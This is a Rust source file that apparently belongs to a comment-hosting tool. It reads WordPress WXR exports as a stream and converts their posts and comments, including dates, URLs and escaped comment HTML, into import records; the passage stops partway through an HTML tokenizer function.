//! WordPress's export: the WXR 1.2 file of Tools → Export (WordPress 6), read as a stream.
//!
//! The file is an RSS 2.0 document: `<rss><channel>`, the site's header, then one `<item>`
//! per post, page, attachment, menu item… Each item carries its `<title>`, `<link>` (the
//! permalink), `<guid isPermaLink="false">` (`https://example.org/?p=N`), `wp:post_type`,
//! and its comments as `<wp:comment>` elements. Only the element being read is held in
//! memory: one comment's fields at a time, plus the ids of the current post's skipped
//! pingbacks.
//!
//! What comes out, for each item that is a post or a page or that has comments:
//! [`Record::Thread`] first (its key is the path, and query if any, of `<link>` or of
//! `<guid>`, see [`KeyFrom`]), then one [`Record::Comment`] per comment in file order.
//!
//! Decisions:
//! - Pingbacks, trackbacks and every other non-comment `wp:comment_type` (WooCommerce's
//!   order notes, the block editor's notes, webmentions…) are skipped: nobody wrote them
//!   on the page, and some are private. `""`, `comment` and `review` (a product review)
//!   are comments. A reply to a skipped one answers that one's parent instead.
//! - `wp:comment_date_gmt` is the time; a comment saved before WordPress kept GMT dates has
//!   `0000-00-00 00:00:00` there, and then `wp:comment_date` (the site's local time, whose
//!   offset the file does not say) is taken as if it were UTC.
//! - An empty author is "Anonymous", as WordPress shows it; an empty email or website is
//!   `None`.
//! - WordPress core leaves spam out of its export (`comment_approved <> "spam"`); older
//!   versions and plugins keep it, so `spam` is still read, as [`SourceStatus::Spam`].
//! - The body is HTML as the commenter's form saved it: bare newlines (WordPress adds the
//!   paragraphs when it shows the comment) and the few tags its filter allows. It becomes
//!   Colloquy markdown (see [`comment_markdown`]).

use std::collections::{HashMap, VecDeque};
use std::io::BufRead;
use std::sync::OnceLock;

use htmd::element_handler::{HandlerResult, Handlers};
use htmd::options::{BulletListMarker, Options};
use htmd::{Element, HtmlToMarkdown};
use quick_xml::events::Event;
use quick_xml::{Reader, XmlVersion};

use super::{ImportedComment, InputError, Record, SourceStatus};

/// Which URL of a post names its thread (when it is empty, the other one does).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum KeyFrom {
    /// `<link>`: the permalink as the site showed it when exported (`/2009/07/post/`).
    #[default]
    Link,
    /// `<guid>`: the permanent id WordPress gave the post (`/?p=42`), for sites whose
    /// widget is keyed by post id, or whose permalinks changed.
    Guid,
}

/// Reads a WXR export (1.0 to 1.2) as records: each thread before its comments, comments
/// in file order (WordPress writes them by id, so a parent usually comes first, but not
/// always). The iterator ends after the first error.
pub fn read<R: BufRead>(
    input: R,
    key_from: KeyFrom,
) -> impl Iterator<Item = Result<Record, InputError>> {
    WxrRecords {
        state: ReaderState::new(input),
        key_from,
        items: 0,
        item: None,
        comment: None,
    }
}

struct WxrRecords<R> {
    /// The XML, the records made but not yet handed out (a thread and its first comment,
    /// at most) and the field being read.
    state: ReaderState<R>,
    key_from: KeyFrom,
    /// `<item>`s seen so far, for naming one in an error.
    items: usize,
    item: Option<Item>,
    comment: Option<Comment>,
}

#[derive(Default)]
struct Item {
    ordinal: usize,
    title: String,
    link: String,
    guid: String,
    post_type: String,
    thread: Option<String>,
    /// Skipped pingbacks and the like: id → the id they answer (`None`: the post).
    skipped: HashMap<String, Option<String>>,
}

#[derive(Default)]
struct Comment {
    id: Option<String>,
    author: String,
    email: String,
    url: String,
    date: String,
    date_gmt: String,
    content: String,
    approved: Option<String>,
    kind: String,
    parent: String,
}

impl<R: BufRead> Iterator for WxrRecords<R> {
    type Item = Result<Record, InputError>;

    fn next(&mut self) -> Option<Self::Item> {
        next_record(self)
    }
}

impl<R: BufRead> ExportReader<R> for WxrRecords<R> {
    const ROOT: &'static str = "rss";
    const NAME: &'static str = "a WordPress export";

    fn state(&mut self) -> &mut ReaderState<R> {
        &mut self.state
    }

    fn start(&mut self, name: String) -> Result<(), InputError> {
        let parent = self.state.xml.open_from_end(1);
        match (parent, name.as_str()) {
            (Some("channel"), "item") => {
                self.items += 1;
                self.item = Some(Item {
                    ordinal: self.items,
                    ..Item::default()
                });
            }
            (Some("item"), "wp:comment") if self.item.is_some() => {
                self.thread_for_comments()?;
                self.comment = Some(Comment::default());
            }
            (Some("item"), "title" | "link" | "guid" | "wp:post_type")
            | (
                Some("wp:comment"),
                "wp:comment_id"
                | "wp:comment_author"
                | "wp:comment_author_email"
                | "wp:comment_author_url"
                | "wp:comment_date"
                | "wp:comment_date_gmt"
                | "wp:comment_content"
                | "wp:comment_approved"
                | "wp:comment_type"
                | "wp:comment_parent",
            ) => self.state.capture_here(),
            _ => {}
        }
        Ok(())
    }

    fn end(&mut self, name: String) -> Result<(), InputError> {
        if let Some(text) = self.state.captured_at_close() {
            self.store(&name, text);
        }
        match name.as_str() {
            "wp:comment"
                if self.comment.is_some() && self.state.xml.open_from_end(0) == Some("item") =>
            {
                let comment = self.comment.take().unwrap_or_default();
                if let Some(record) = self.finish_comment(comment)? {
                    self.state.queue.push_back(record);
                }
            }
            "item" if self.item.is_some() && self.state.xml.open_from_end(0) == Some("channel") => {
                let is_post = matches!(self.item_ref().post_type.trim(), "post" | "page");
                if is_post && self.item_ref().thread.is_none() {
                    self.thread_for_comments()?;
                }
                self.item = None;
            }
            _ => {}
        }
        Ok(())
    }

    fn located(&self, error: XmlError) -> InputError {
        self.locate(error)
    }
}

impl<R: BufRead> WxrRecords<R> {
    fn store(&mut self, name: &str, text: String) {
        if let Some(comment) = &mut self.comment {
            let field = match name {
                "wp:comment_id" => {
                    comment.id = Some(text);
                    return;
                }
                "wp:comment_approved" => {
                    comment.approved = Some(text);
                    return;
                }
                "wp:comment_author" => &mut comment.author,
                "wp:comment_author_email" => &mut comment.email,
                "wp:comment_author_url" => &mut comment.url,
                "wp:comment_date" => &mut comment.date,
                "wp:comment_date_gmt" => &mut comment.date_gmt,
                "wp:comment_content" => &mut comment.content,
                "wp:comment_type" => &mut comment.kind,
                "wp:comment_parent" => &mut comment.parent,
                _ => return,
            };
            *field = text;
        } else if let Some(item) = &mut self.item {
            match name {
                "title" => item.title = text,
                "link" => item.link = text,
                "guid" => item.guid = text,
                "wp:post_type" => item.post_type = text,
                _ => {}
            }
        }
    }

    fn item_ref(&self) -> &Item {
        self.item.as_ref().expect("inside an <item>")
    }

    /// Queues the current item's thread, once.
    fn thread_for_comments(&mut self) -> Result<(), InputError> {
        let key_from = self.key_from;
        let Some(item) = &mut self.item else {
            return Ok(());
        };
        if item.thread.is_some() {
            return Ok(());
        }
        let (first, second) = match key_from {
            KeyFrom::Link => (&item.link, &item.guid),
            KeyFrom::Guid => (&item.guid, &item.link),
        };
        let key = url_path(first, true)
            .or_else(|| url_path(second, true))
            .ok_or_else(|| {
                InputError::new(
                    format!("item {}", item.ordinal),
                    "neither <link> nor <guid> gives the post a URL to key its thread by",
                )
            })?;
        let title = item.title.trim();
        self.state.queue.push_back(Record::Thread {
            key: key.clone(),
            title: (!title.is_empty()).then(|| title.to_string()),
        });
        item.thread = Some(key);
        Ok(())
    }

    fn finish_comment(&mut self, comment: Comment) -> Result<Option<Record>, InputError> {
        let item = self.item.as_mut().expect("a <wp:comment> inside an <item>");
        let id = comment.id.as_deref().map(str::trim).unwrap_or_default();
        if id.is_empty() {
            return Err(InputError::new(
                format!("item {}", item.ordinal),
                "a <wp:comment> without its <wp:comment_id>",
            ));
        }
        let record = format!("comment {id}");
        let parent = match comment.parent.trim() {
            "" | "0" => None,
            parent => Some(parent.to_string()),
        };
        if !matches!(comment.kind.trim(), "" | "comment" | "review") {
            item.skipped.insert(id.to_string(), parent);
            return Ok(None);
        }
        // A reply to a skipped pingback answers what the pingback answered.
        let mut parent = parent;
        let mut hops = 0;
        while let Some(skipped) = parent.as_ref().and_then(|p| item.skipped.get(p)) {
            parent = skipped.clone();
            hops += 1;
            if hops > item.skipped.len() {
                parent = None;
                break;
            }
        }
        let status = match comment.approved.as_deref().map(str::trim) {
            Some("1") => SourceStatus::Approved,
            Some("0") => SourceStatus::Pending,
            Some("spam") => SourceStatus::Spam,
            Some("trash" | "post-trashed") => SourceStatus::Deleted,
            Some(other) => {
                return Err(InputError::new(
                    record,
                    format!(
                        "wp:comment_approved is `{other}`, not 1, 0, spam, trash or post-trashed"
                    ),
                ))
            }
            None => {
                return Err(InputError::new(record, "no <wp:comment_approved>"));
            }
        };
        let gmt = comment.date_gmt.trim();
        let (field, date) = if gmt.is_empty() || gmt == ZERO_DATE {
            ("wp:comment_date", comment.date.trim())
        } else {
            ("wp:comment_date_gmt", gmt)
        };
        let created_at_ms = parse_mysql_datetime(date).ok_or_else(|| {
            InputError::new(
                &record,
                format!("{field} is `{date}`, not a date as YYYY-MM-DD HH:MM:SS"),
            )
        })?;
        let author = comment.author.trim();
        let website = comment.url.trim();
        Ok(Some(Record::Comment(ImportedComment {
            thread: item.thread.clone().unwrap_or_default(),
            source_id: id.to_string(),
            parent_source_id: parent,
            author: if author.is_empty() {
                ANONYMOUS.to_string()
            } else {
                author.to_string()
            },
            email: non_empty(&comment.email),
            website: if matches!(website, "http://" | "https://") {
                None
            } else {
                non_empty(website)
            },
            body: comment_markdown(&comment.content),
            created_at_ms,
            status,
        })))
    }

    /// An error made specific: the comment or item it is in, and where in the file.
    fn locate(&self, error: XmlError) -> InputError {
        let record = if let Some(id) = self
            .comment
            .as_ref()
            .and_then(|c| c.id.as_deref())
            .map(str::trim)
            .filter(|id| !id.is_empty())
        {
            format!("comment {id}")
        } else if let Some(item) = &self.item {
            format!("item {}", item.ordinal)
        } else {
            format!("byte {}", error.position)
        };
        InputError::new(
            record,
            format!("{} (byte {})", error.reason, error.position),
        )
    }
}

const ZERO_DATE: &str = "0000-00-00 00:00:00";

/// How WordPress, Disqus and Isso show a comment without a name.
pub(super) const ANONYMOUS: &str = "Anonymous";

pub(super) fn non_empty(text: &str) -> Option<String> {
    let text = text.trim();
    (!text.is_empty()).then(|| text.to_string())
}

// ---------------------------------------------------------------------------------------
// The XML underneath, shared with the Disqus reader.

/// One export format read from an [`XmlStream`]: the reader keeps its own state and says
/// what an opening and a closing element mean; [`next_record`] and [`step`] do the rest
/// the same way for every format (hand out records, gather the text of the field being
/// read, tell a whole document from one that is cut short).
pub(super) trait ExportReader<R: BufRead> {
    /// The root element, and the format's name in an error ("a WordPress export").
    const ROOT: &'static str;
    const NAME: &'static str;
    fn state(&mut self) -> &mut ReaderState<R>;
    fn start(&mut self, name: String) -> Result<(), InputError>;
    fn end(&mut self, name: String) -> Result<(), InputError>;
    /// An error made specific: the record it is in, and where in the file.
    fn located(&self, error: XmlError) -> InputError;
}

/// What every format's reader keeps the same way.
pub(super) struct ReaderState<R> {
    pub xml: XmlStream<R>,
    /// Records made but not yet handed out.
    pub queue: VecDeque<Record>,
    /// The text of the field being read, and the depth of its element.
    pub capture: Option<(usize, String)>,
    pub finished: bool,
}

impl<R: BufRead> ReaderState<R> {
    pub fn new(input: R) -> Self {
        Self {
            xml: XmlStream::new(input),
            queue: VecDeque::new(),
            capture: None,
            finished: false,
        }
    }

    /// Starts gathering the text of the element just opened, unless a field is being
    /// read already.
    pub fn capture_here(&mut self) {
        if self.capture.is_none() {
            self.capture = Some((self.xml.depth(), String::new()));
        }
    }

    /// The text gathered for the element that is closing, if it was being read.
    pub fn captured_at_close(&mut self) -> Option<String> {
        // `depth` still counts the element that closes.
        let depth = self.xml.depth() + 1;
        match &self.capture {
            Some((at, _)) if *at == depth => self.capture.take().map(|(_, text)| text),
            _ => None,
        }
    }
}

/// The reader's next record; after an error, nothing more.
pub(super) fn next_record<R: BufRead, F: ExportReader<R>>(
    reader: &mut F,
) -> Option<Result<Record, InputError>> {
    loop {
        let state = reader.state();
        if let Some(record) = state.queue.pop_front() {
            return Some(Ok(record));
        }
        if state.finished {
            return None;
        }
        if let Err(error) = step(reader) {
            let state = reader.state();
            state.finished = true;
            state.queue.clear();
            return Some(Err(error));
        }
    }
}

/// Reads one XML event and acts on it.
fn step<R: BufRead, F: ExportReader<R>>(reader: &mut F) -> Result<(), InputError> {
    let event = match reader.state().xml.next() {
        Ok(event) => event,
        Err(error) => return Err(reader.located(error)),
    };
    match event {
        XmlEvent::Start(name) => {
            if reader.state().xml.depth() == 1 && name != F::ROOT {
                return Err(InputError::new(
                    "byte 0",
                    format!(
                        "the document is a <{name}>, not {} (<{}>)",
                        F::NAME,
                        F::ROOT
                    ),
                ));
            }
            reader.start(name)
        }
        XmlEvent::Text(text) => {
            if let Some((_, buffer)) = &mut reader.state().capture {
                buffer.push_str(&text);
            }
            Ok(())
        }
        XmlEvent::End(name) => reader.end(name),
        XmlEvent::Eof => {
            let state = reader.state();
            if state.xml.depth() == 0 && state.xml.saw_root() {
                state.finished = true;
                return Ok(());
            }
            let xml = &state.xml;
            let open = xml.open_elements();
            let position = xml.position();
            let reason = if open.is_empty() {
                format!("the file is empty: not {}", F::NAME)
            } else {
                format!("the file ends inside {open}: it is cut short")
            };
            Err(reader.located(XmlError { position, reason }))
        }
    }
}

/// What the readers need of an XML event, owned.
pub(super) enum XmlEvent {
    /// An element opens (`<a/>` opens and closes): its qualified name; its attributes are
    /// in [`XmlStream::attributes`] until the next event.
    Start(String),
    /// Text, CDATA or one reference, decoded.
    Text(String),
    End(String),
    Eof,
}

pub(super) struct XmlError {
    pub position: u64,
    pub reason: String,
}

/// quick-xml over a `BufRead`, keeping the stack of open elements (so a file that stops
/// inside one is noticed) and one event's buffer.
pub(super) struct XmlStream<R> {
    reader: Reader<R>,
    buffer: Vec<u8>,
    open: Vec<String>,
    attributes: Vec<(String, String)>,
    root_seen: bool,
}

impl<R: BufRead> XmlStream<R> {
    pub fn new(input: R) -> Self {
        let mut reader = Reader::from_reader(input);
        reader.config_mut().expand_empty_elements = true;
        Self {
            reader,
            buffer: Vec::with_capacity(4096),
            open: Vec::new(),
            attributes: Vec::new(),
            root_seen: false,
        }
    }

    /// How many elements are open (after a `Start`, it counts the one that opened).
    pub fn depth(&self) -> usize {
        self.open.len()
    }

    pub fn saw_root(&self) -> bool {
        self.root_seen
    }

    /// The open elements counted from the innermost: `open_from_end(0)` is the one that
    /// just opened (after `Start`) or the one that holds the one that just closed (after
    /// `End`).
    pub fn open_from_end(&self, steps: usize) -> Option<&str> {
        self.open
            .len()
            .checked_sub(steps + 1)
            .map(|i| self.open[i].as_str())
    }

    /// `<a> in <b>`, innermost first, for an error message.
    pub fn open_elements(&self) -> String {
        let innermost: Vec<String> = self
            .open
            .iter()
            .rev()
            .take(3)
            .map(|name| format!("<{name}>"))
            .collect();
        innermost.join(" in ")
    }

    /// The attributes of the element that just opened.
    pub fn attributes(&self) -> &[(String, String)] {
        &self.attributes
    }

    pub fn position(&self) -> u64 {
        self.reader.buffer_position()
    }

    pub fn next(&mut self) -> Result<XmlEvent, XmlError> {
        loop {
            self.buffer.clear();
            let event = match self.reader.read_event_into(&mut self.buffer) {
                Ok(event) => event,
                Err(error) => {
                    return Err(XmlError {
                        position: self.reader.error_position(),
                        reason: format!("malformed XML: {error}"),
                    })
                }
            };
            match event {
                Event::Start(start) => {
                    let name = start.name().into_inner().to_string();
                    self.attributes.clear();
                    for attribute in start.attributes() {
                        let attribute = attribute.map_err(|error| XmlError {
                            position: self.reader.buffer_position(),
                            reason: format!("malformed XML attribute: {error}"),
                        })?;
                        let value = attribute
                            .normalized_value(XmlVersion::Implicit1_0)
                            .map_err(|error| XmlError {
                                position: self.reader.buffer_position(),
                                reason: format!("malformed XML attribute: {error}"),
                            })?;
                        self.attributes
                            .push((attribute.key.into_inner().to_string(), value.into_owned()));
                    }
                    if self.open.is_empty() {
                        if self.root_seen {
                            return Err(XmlError {
                                position: self.reader.buffer_position(),
                                reason: format!("a second root element <{name}>"),
                            });
                        }
                        self.root_seen = true;
                    }
                    self.open.push(name.clone());
                    return Ok(XmlEvent::Start(name));
                }
                Event::End(end) => {
                    let name = end.name().into_inner().to_string();
                    self.open.pop();
                    return Ok(XmlEvent::End(name));
                }
                Event::Text(text) => {
                    if self.open.is_empty() {
                        continue;
                    }
                    return Ok(XmlEvent::Text(text.xml10_content().into_owned()));
                }
                Event::CData(data) => {
                    return Ok(XmlEvent::Text(data.xml10_content().into_owned()));
                }
                Event::GeneralRef(reference) => {
                    let position = self.reader.buffer_position();
                    let text = match reference.resolve_char_ref() {
                        Ok(Some(c)) => c.to_string(),
                        Ok(None) => match &*reference {
                            "lt" => "<".to_string(),
                            "gt" => ">".to_string(),
                            "amp" => "&".to_string(),
                            "apos" => "'".to_string(),
                            "quot" => "\"".to_string(),
                            other => {
                                return Err(XmlError {
                                    position,
                                    reason: format!("unknown entity &{other}; (XML knows only &lt; &gt; &amp; &apos; &quot;)"),
                                })
                            }
                        },
                        Err(error) => {
                            return Err(XmlError {
                                position,
                                reason: format!("malformed character reference: {error}"),
                            })
                        }
                    };
                    return Ok(XmlEvent::Text(text));
                }
                Event::Eof => return Ok(XmlEvent::Eof),
                Event::Empty(_)
                | Event::Comment(_)
                | Event::Decl(_)
                | Event::PI(_)
                | Event::DocType(_) => continue,
            }
        }
    }
}

// ---------------------------------------------------------------------------------------
// Dates and URLs.

/// `YYYY-MM-DD HH:MM:SS` (MySQL's DATETIME, as WordPress stores it) as Unix milliseconds.
pub(super) fn parse_mysql_datetime(text: &str) -> Option<i64> {
    let bytes = text.as_bytes();
    if bytes.len() != 19 || bytes[10] != b' ' {
        return None;
    }
    let (date, time) = (&text[..10], &text[11..]);
    unix_ms(parse_date(date)?, parse_time(time)?, 0)
}

/// ISO 8601 as Disqus writes it (`2013-05-14T10:12:01Z`), also with a fraction of a second
/// or an offset (`+02:00`) in place of `Z`, as Unix milliseconds.
pub(super) fn parse_iso8601(text: &str) -> Option<i64> {
    let text = text.trim();
    if text.len() < 19 || !matches!(text.as_bytes()[10], b'T' | b't' | b' ') {
        return None;
    }
    let date = parse_date(text.get(..10)?)?;
    let time = parse_time(text.get(11..19)?)?;
    let mut rest = text.get(19..)?;
    let mut millis = 0i64;
    if let Some(fraction) = rest.strip_prefix('.') {
        let digits = fraction.bytes().take_while(u8::is_ascii_digit).count();
        if digits == 0 {
            return None;
        }
        for (i, digit) in fraction.bytes().take(3).enumerate().take(digits) {
            millis += i64::from(digit - b'0') * [100, 10, 1][i];
        }
        rest = &fraction[digits..];
    }
    let offset_minutes = match rest {
        "Z" | "z" | "" => 0,
        _ => {
            let sign = match rest.as_bytes()[0] {
                b'+' => 1,
                b'-' => -1,
                _ => return None,
            };
            let digits: String = rest[1..].chars().filter(|c| *c != ':').collect();
            if digits.len() != 4 || !digits.bytes().all(|b| b.is_ascii_digit()) {
                return None;
            }
            let hours: i64 = digits[..2].parse().ok()?;
            let minutes: i64 = digits[2..].parse().ok()?;
            sign * (hours * 60 + minutes)
        }
    };
    Some(unix_ms(date, time, millis)? - offset_minutes * 60_000)
}

fn number(text: &str) -> Option<i64> {
    if text.is_empty() || !text.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    text.parse().ok()
}

fn parse_date(text: &str) -> Option<(i64, i64, i64)> {
    let mut parts = text.split('-');
    let (year, month, day) = (parts.next()?, parts.next()?, parts.next()?);
    if parts.next().is_some() || year.len() != 4 || month.len() != 2 || day.len() != 2 {
        return None;
    }
    Some((number(year)?, number(month)?, number(day)?))
}

fn parse_time(text: &str) -> Option<(i64, i64, i64)> {
    let mut parts = text.split(':');
    let (hour, minute, second) = (parts.next()?, parts.next()?, parts.next()?);
    if parts.next().is_some() || hour.len() != 2 || minute.len() != 2 || second.len() != 2 {
        return None;
    }
    Some((number(hour)?, number(minute)?, number(second)?))
}

fn unix_ms(
    (year, month, day): (i64, i64, i64),
    (hour, minute, second): (i64, i64, i64),
    millis: i64,
) -> Option<i64> {
    let leap = (year % 4 == 0 && year % 100 != 0) || year % 400 == 0;
    let month_days = match month {
        1 | 3 | 5 | 7 | 8 | 10 | 12 => 31,
        4 | 6 | 9 | 11 => 30,
        2 if leap => 29,
        2 => 28,
        _ => return None,
    };
    if year < 1 || day < 1 || day > month_days || hour > 23 || minute > 59 || second > 59 {
        return None;
    }
    // Days since 1970-01-01 of the proleptic Gregorian calendar, years starting in March.
    let y = if month <= 2 { year - 1 } else { year };
    let era = y.div_euclid(400);
    let year_of_era = y - era * 400;
    let month_from_march = (month + 9) % 12;
    let day_of_year = (153 * month_from_march + 2) / 5 + day - 1;
    let day_of_era = year_of_era * 365 + year_of_era / 4 - year_of_era / 100 + day_of_year;
    let days = era * 146_097 + day_of_era - 719_468;
    Some(((days * 24 + hour) * 60 + minute) * 60_000 + second * 1000 + millis)
}

/// The path of a URL (`/` when it has none), with its query when asked and present; the
/// scheme, host and fragment go. `None` for an empty string.
pub(super) fn url_path(url: &str, with_query: bool) -> Option<String> {
    let url = url.trim();
    if url.is_empty() {
        return None;
    }
    let after_host = if let Some(scheme_end) = url.find("://") {
        let rest = &url[scheme_end + 3..];
        rest.find(['/', '?', '#']).map_or("", |i| &rest[i..])
    } else if let Some(rest) = url.strip_prefix("//") {
        rest.find(['/', '?', '#']).map_or("", |i| &rest[i..])
    } else {
        url
    };
    let without_fragment = after_host.split('#').next().unwrap_or_default();
    let (path, query) = match without_fragment.split_once('?') {
        Some((path, query)) => (path, Some(query)),
        None => (without_fragment, None),
    };
    let mut key = String::with_capacity(without_fragment.len() + 1);
    if !path.starts_with('/') {
        key.push('/');
    }
    key.push_str(path);
    if let Some(query) = query.filter(|q| with_query && !q.is_empty()) {
        key.push('?');
        key.push_str(query);
    }
    Some(key)
}

// ---------------------------------------------------------------------------------------
// HTML to Colloquy markdown.

/// A WordPress comment's stored HTML as Colloquy markdown. First what WordPress does
/// when it shows a comment ([`autop`]: a blank line is a paragraph, a single newline a
/// line break, a bare URL a link), then [`html_to_markdown`].
pub fn comment_markdown(html: &str) -> String {
    html_to_markdown(&autop(html))
}

/// HTML as Colloquy markdown, by `htmd` with a few handlers of ours:
/// - links stay links (`[text](url)`; `rel`, `target`, `title` go; an empty one shows
///   its URL);
/// - smilies and emoji images (`class="wp-smiley"`, `class="emoji"`) become their alt
///   text (`:)`), other images a link to the image, named by their alt text;
/// - `<script>` and `<style>` are shown as the text they are (`<script>…</script>`),
///   iframes and embeds become a link to what they embedded;
/// - `<del>`, `<s>`, `<strike>` become `~~strikethrough~~`, `<pre>` a fenced code block;
/// - entities are decoded, paragraphs, line breaks, lists, quotes and code are kept;
/// - every other tag goes and its text stays, and text that markdown would read as markup
///   (`*`, `_`, `[`, `<tag`…) is escaped, so no HTML survives.
pub fn html_to_markdown(html: &str) -> String {
    static CONVERTER: OnceLock<HtmlToMarkdown> = OnceLock::new();
    let converter = CONVERTER.get_or_init(|| {
        HtmlToMarkdown::builder()
            .options(Options {
                bullet_list_marker: BulletListMarker::Dash,
                ul_bullet_spacing: 1,
                ol_number_spacing: 1,
                ..Options::default()
            })
            .scripting_enabled(false)
            .add_handler(vec!["a"], anchor)
            .add_handler(vec!["img"], image)
            .add_handler(vec!["script", "style"], shown_as_text)
            .add_handler(vec!["iframe", "embed", "video", "audio", "source"], embed)
            .add_handler(vec!["del", "s", "strike"], strikethrough)
            .add_handler(vec!["pre"], preformatted)
            .build()
    });
    match converter.convert(&scripts_as_text(html)) {
        Ok(markdown) => tidy(&markdown),
        Err(_) => escape_markdown(html),
    }
}

/// `<script>` and `<style>` elements escaped, so the parser reads them as the text they
/// are, in their place (the handler below catches any the tokenizer does not see).
fn scripts_as_text(html: &str) -> std::borrow::Cow<'_, str> {
    let lower = html.to_ascii_lowercase();
    if !lower.contains("<script") && !lower.contains("<style") {
        return html.into();
    }
    let mut out = String::with_capacity(html.len() + 64);
    for token in tokens(html) {
        match token {
            Token::Verbatim { raw, name } if name == "script" || name == "style" => {
                out.push_str(
                    &raw.replace('&', "&amp;")
                        .replace('<', "&lt;")
                        .replace('>', "&gt;"),
                );
            }
            Token::Text(raw) | Token::Tag { raw, .. } | Token::Verbatim { raw, .. } => {
                out.push_str(raw)
            }
        }
    }
    out.into()
}

/// Blank lines made empty, at most one in a row, no hard break left at the end of a
/// paragraph; fenced code is left alone.
fn tidy(markdown: &str) -> String {
    let mut lines: Vec<&str> = Vec::new();
    let mut in_fence = false;
    for line in markdown.trim_matches('\n').lines() {
        let trimmed = line.trim_start();
        if trimmed.starts_with("```") || trimmed.starts_with("~~~") {
            in_fence = !in_fence;
        }
        if in_fence {
            lines.push(line);
            continue;
        }
        if line.trim().is_empty() {
            if lines.last().is_some_and(|last| !last.is_empty()) {
                if let Some(last) = lines.last_mut() {
                    *last = last.trim_end();
                }
                lines.push("");
            }
            continue;
        }
        lines.push(line);
    }
    while lines.last().is_some_and(|last| last.trim().is_empty()) {
        lines.pop();
    }
    if let Some(last) = lines.last_mut() {
        *last = last.trim_end();
    }
    lines.join("\n")
}

fn attribute<'a>(element: &'a Element, name: &str) -> Option<&'a str> {
    element
        .attrs
        .iter()
        .find(|attribute| &*attribute.name.local == name)
        .map(|attribute| attribute.value.trim())
}

fn anchor(handlers: &dyn Handlers, element: Element) -> Option<HandlerResult> {
    let content = handlers.walk_children(element.node).content;
    let text = content.trim();
    match attribute(&element, "href").filter(|href| !href.is_empty()) {
        Some(href) if text.is_empty() => Some(markdown_link(href, href).into()),
        Some(href) => {
            // Spaces inside the element go outside the brackets.
            let before = if content.starts_with(char::is_whitespace) {
                " "
            } else {
                ""
            };
            let after = if content.ends_with(char::is_whitespace) {
                " "
            } else {
                ""
            };
            let target = &markdown_link("", href)[2..];
            Some(format!("{before}[{text}]{target}{after}").into())
        }
        None => Some(content.into()),
    }
}

fn image(_: &dyn Handlers, element: Element) -> Option<HandlerResult> {
    let alt = attribute(&element, "alt").unwrap_or_default();
    let src = attribute(&element, "src").unwrap_or_default();
    let is_smiley = attribute(&element, "class")
        .unwrap_or_default()
        .split_ascii_whitespace()
        .any(|class| class == "wp-smiley" || class == "emoji");
    let markdown = if is_smiley || src.is_empty() {
        escape_markdown(alt)
    } else {
        markdown_link(if alt.is_empty() { src } else { alt }, src)
    };
    Some(markdown.into())
}

fn shown_as_text(handlers: &dyn Handlers, element: Element) -> Option<HandlerResult> {
    let inner = handlers.walk_children(element.node).content;
    let mut text = format!("\\<{}", element.tag);
    for attribute in element.attrs {
        text.push(' ');
        text.push_str(&escape_markdown(&attribute.name.local));
        text.push_str("=\"");
        text.push_str(&escape_markdown(&attribute.value));
        text.push('"');
    }
    text.push('>');
    text.push_str(inner.trim());
    text.push_str("\\</");
    text.push_str(element.tag);
    text.push('>');
    Some(text.into())
}

fn embed(handlers: &dyn Handlers, element: Element) -> Option<HandlerResult> {
    match attribute(&element, "src").filter(|src| !src.is_empty()) {
        Some(src) => Some(markdown_link(src, src).into()),
        None => Some(handlers.walk_children(element.node)),
    }
}

/// `<pre>` is a code block, with or without a `<code>` inside.
fn preformatted(handlers: &dyn Handlers, element: Element) -> Option<HandlerResult> {
    let content = handlers.walk_children(element.node).content;
    let content = content.trim_matches('\n');
    if content.is_empty() {
        return None;
    }
    if content.starts_with("```") {
        // `<pre><code>`: already a fenced block.
        return Some(format!("\n\n{content}\n\n").into());
    }
    let longest_run = content
        .split(|c| c != '`')
        .map(str::len)
        .max()
        .unwrap_or_default();
    let fence = "`".repeat(3.max(longest_run + 1));
    Some(format!("\n\n{fence}\n{content}\n{fence}\n\n").into())
}

fn strikethrough(handlers: &dyn Handlers, element: Element) -> Option<HandlerResult> {
    let inner = handlers.walk_children(element.node).content;
    let inner = inner.trim();
    if inner.is_empty() {
        return None;
    }
    Some(format!("~~{inner}~~").into())
}

/// `[text](url)`, the text escaped and the URL kept inside its parentheses.
fn markdown_link(text: &str, url: &str) -> String {
    let mut link = format!("[{}](", escape_markdown(text));
    for c in url.chars() {
        match c {
            ' ' => link.push_str("%20"),
            '<' => link.push_str("%3C"),
            '>' => link.push_str("%3E"),
            '(' | ')' | '\\' => {
                link.push('\\');
                link.push(c);
            }
            c if c.is_control() => {}
            c => link.push(c),
        }
    }
    link.push(')');
    link
}

/// Text that markdown shows as it is.
fn escape_markdown(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for c in text.chars() {
        if matches!(
            c,
            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '#' | '~' | '|' | '!'
        ) {
            escaped.push('\\');
        }
        escaped.push(if c.is_control() && c != '\n' { ' ' } else { c });
    }
    escaped
}

/// Elements that make their own blocks: newlines next to them are layout, not breaks
/// (WordPress's `wpautop` list).
const BLOCKS: &[&str] = &[
    "address",
    "area",
    "article",
    "aside",
    "blockquote",
    "caption",
    "col",
    "colgroup",
    "dd",
    "details",
    "div",
    "dl",
    "dt",
    "fieldset",
    "figcaption",
    "figure",
    "footer",
    "form",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hgroup",
    "hr",
    "legend",
    "li",
    "main",
    "map",
    "math",
    "menu",
    "nav",
    "ol",
    "p",
    "pre",
    "section",
    "summary",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "ul",
];

/// Blocks whose text is made of paragraphs (the others hold a line of text: `<li>`,
/// `<td>`, `<h2>`, `<p>`…).
const HOLDS_PARAGRAPHS: &[&str] = &[
    "address",
    "article",
    "aside",
    "blockquote",
    "details",
    "div",
    "fieldset",
    "figure",
    "footer",
    "form",
    "header",
    "main",
    "nav",
    "section",
];

/// Elements whose content is kept as it is, newlines included.
const VERBATIM: &[&str] = &["pre", "script", "style", "textarea"];

enum Token<'a> {
    Text(&'a str),
    /// A tag (`<b>`, `</b>`, `<br />`); `name` in lower case.
    Tag {
        raw: &'a str,
        name: String,
        closing: bool,
    },
    /// An HTML comment, or a verbatim element with its content and closing tag.
    Verbatim {
        raw: &'a str,
        name: String,
    },
}

/// Splits HTML into text and tags, leniently: a `<` that starts no tag is text.
fn tokens(html: &str) -> Vec<Token<'_>> {
    let bytes = html.as_bytes();
    let mut tokens = Vec::new();
